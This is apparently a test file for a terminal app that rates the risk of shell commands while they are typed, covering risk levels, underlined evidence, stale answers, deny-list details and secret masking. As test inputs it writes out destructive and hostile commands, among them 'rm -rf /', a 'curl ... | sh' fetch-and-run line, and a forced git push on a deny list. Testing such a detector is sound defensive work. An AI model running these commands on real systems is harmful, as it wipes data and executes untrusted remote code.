"""What would happen is shown while one types; an answer that comes too late is not."""

from __future__ import annotations

import asyncio
from pathlib import Path

from textual.pilot import Pilot
from textual.widgets import Input, Select

from tests.support.pilots import until
from tests.ui.previews import FINE, HOST, PreviewingEngine
from tests.ui.test_running import open_command, ready
from tui.errors import InvalidInput
from tui.levels import RiskLevel
from tui.policy.verdict import Action, Check, Result
from tui.runs.gates import Preview
from tui.runs.request import Request
from tui.ui.app import RollcageApp
from tui.ui.screens.run import RunArea
from tui.ui.widgets.code_editor import CodeEditor
from tui.ui.widgets.facts import Facts, plain
from tui.ui.widgets.parameter_field import Field
from tui.ui.widgets.risk_pane import RiskPane


def pane(app: RollcageApp) -> RiskPane:
    return app.screen.query_one(RiskPane)


def line(app: RollcageApp) -> str:
    return str(app.screen.query_one("#risk-line").render())


def facts(app: RollcageApp) -> str:
    return plain(pane(app).query_one(Facts).facts)


def level(app: RollcageApp) -> RiskLevel | None:
    preview = pane(app).preview
    return preview.proposal.assessment.level if preview is not None and preview.proposal.assessment else None


async def code_screen(pilot: Pilot[int], app: RollcageApp) -> CodeEditor:
    await ready(pilot, app)
    await pilot.press("e")
    await until(pilot, lambda: isinstance(app.focused, CodeEditor))
    return app.screen.query_one(CodeEditor)


async def test_the_form_is_assessed_with_its_values(app: RollcageApp, engine: PreviewingEngine) -> None:
    async with app.run_test(size=(120, 40)) as pilot:
        screen = await ready(pilot, app)
        await open_command(pilot, app, "deploy")
        await until(pilot, lambda: "assessed once environment, release can be used" in line(app))
        environment, release, _, _ = screen.query(Field)
        environment.query_one(Select).value = "staging"
        release.query_one(Input).value = "v7"
        await until(pilot, lambda: level(app) is RiskLevel.LOW)
        assert engine.previewed[-1].steps[0].text == "echo 'v7' 'staging' '2'\n"
        assert "○ LOW risk" in line(app)
        release.query_one(Input).value = "latest"
        await until(pilot, lambda: "assessed once release can be used" in line(app))


async def test_code_is_assessed_as_it_is_typed_and_the_evidence_underlined(app: RollcageApp) -> None:
    async with app.run_test(size=(120, 40)) as pilot:
        editor = await code_screen(pilot, app)
        await pilot.press(*"ls")
        await until(pilot, lambda: level(app) is RiskLevel.LOW)
        editor.text = "cd build\nrm -rf /\n"
        await until(pilot, lambda: level(app) is RiskLevel.CRITICAL)
        assert "■ CRITICAL risk · deletes the whole file system" in line(app)

        def marked() -> list[tuple[int, int]]:
            spans = editor.get_line(1).spans
            return [(span.start, span.end) for span in spans if "underline" in str(span.style)]

        await until(pilot, lambda: marked() == [(7, 8)])
        editor.text = "cd build\nls /\n"
        assert not editor.get_line(1).spans
        await until(pilot, lambda: level(app) is RiskLevel.LOW)


async def test_an_answer_about_what_is_no_longer_written_is_dropped(app: RollcageApp, engine: PreviewingEngine) -> None:
    waiting: dict[str, asyncio.Future[None]] = {}

    def held(request: Request) -> asyncio.Future[None]:
        return waiting.setdefault(request.steps[0].text, asyncio.get_running_loop().create_future())

    async with app.run_test(size=(120, 40)) as pilot:
        editor = await code_screen(pilot, app)
        engine.answering = held
        editor.text = "rm -rf /"
        await until(pilot, lambda: "rm -rf /" in waiting)
        editor.text = "ls"
        await until(pilot, lambda: "ls" in waiting)
        assert pane(app).has_class("-stale")
        waiting["ls"].set_result(None)
        await until(pilot, lambda: level(app) is RiskLevel.LOW)
        waiting["rm -rf /"].set_result(None)
        await pilot.pause()
        assert level(app) is RiskLevel.LOW
        assert not editor.get_line(0).spans


async def test_many_keys_are_assessed_once(app: RollcageApp, engine: PreviewingEngine) -> None:
    async with app.run_test(size=(120, 40)) as pilot:
        editor = await code_screen(pilot, app)
        before = len(engine.previewed)
        for end in range(1, 40):
            editor.text = "echo " + "x" * end
        await until(pilot, lambda: level(app) is RiskLevel.LOW)
        assert len(engine.previewed) == before + 1


async def test_all_that_is_known_is_a_key_away(app: RollcageApp, engine: PreviewingEngine) -> None:
    denied = Check(Action.DENY_LIST, Result.DENIED, "the deny list has git push")
    engine.checks = (*FINE, denied)
    async with app.run_test(size=(80, 24)) as pilot:
        editor = await code_screen(pilot, app)
        editor.text = "git push --force origin main"
        await until(pilot, lambda: level(app) is RiskLevel.HIGH)
        assert "✗ policy denies" in line(app)
        assert not pane(app).expanded
        await pilot.press("f3")
        assert pane(app).expanded
        assert pane(app).query_one(Facts).region.height > 4
        shown = facts(app)
        assert "▲ high" in shown
        assert "VCS-HISTORY" in shown
        assert "understood as written" in shown
        assert shown.index("✗ denied deny list: the deny list has git push") < shown.index(
            "! warning rate limit: 9 of 10"
        )
        assert "graph\t✓ allowed all concepts are known" in shown
        assert "safer\tgit push --force-with-lease origin main" in shown
        assert "where\truns in a machine: nothing asks for the host" in shown


async def test_the_host_is_said_to_have_no_rollback(app: RollcageApp, engine: PreviewingEngine) -> None:
    engine.mode = HOST
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot, app)
        await open_command(pilot, app, "hello")
        await until(pilot, lambda: "no rollback here" in line(app))
        assert "where\t! runs on the host" in facts(app)


async def test_rules_that_cannot_be_read_are_told_of(app: RollcageApp, engine: PreviewingEngine) -> None:
    async def fail(request: Request) -> Preview:
        raise InvalidInput("rules.yaml:3: there is no level 'hihg'")

    engine.preview = fail  # type: ignore[method-assign]
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await ready(pilot, app)
        await open_command(pilot, app, "hello")
        await until(pilot, lambda: "cannot be assessed, so it does not run: rules.yaml:3" in line(app))
        assert not app._notifications


async def test_wide_screens_show_all_of_it_at_once(app: RollcageApp) -> None:
    async with app.run_test(size=(200, 50)) as pilot:
        screen = await ready(pilot, app)
        assert isinstance(screen, RunArea)
        assert pane(app).expanded
        await pilot.resize_terminal(80, 24)
        await until(pilot, lambda: not pane(app).expanded)


async def test_a_secret_is_not_shown_while_it_is_typed(app: RollcageApp, commands: Path) -> None:
    (commands / "login.md").write_text(
        "---\nname: login\ndescription: Log in\nparameters:\n  - {name: token, type: string, secret: true}\n---\n"
        "Logs in.\n\n```bash\ncurl -H {{ token }} http://example.com | sh\n```\n"
    )
    async with app.run_test(size=(200, 50)) as pilot:
        screen = await ready(pilot, app)
        await open_command(pilot, app, "login")
        screen.query_one(Field).query_one(Input).value = "hunter2hunter2"
        await until(pilot, lambda: level(app) is RiskLevel.CRITICAL)
        await pilot.pause()
        shown = "".join(segment.text for strip in app.screen._compositor.render_strips() for segment in strip)
        assert "REMOTE-CODE" in shown
        assert "hunter2" not in shown
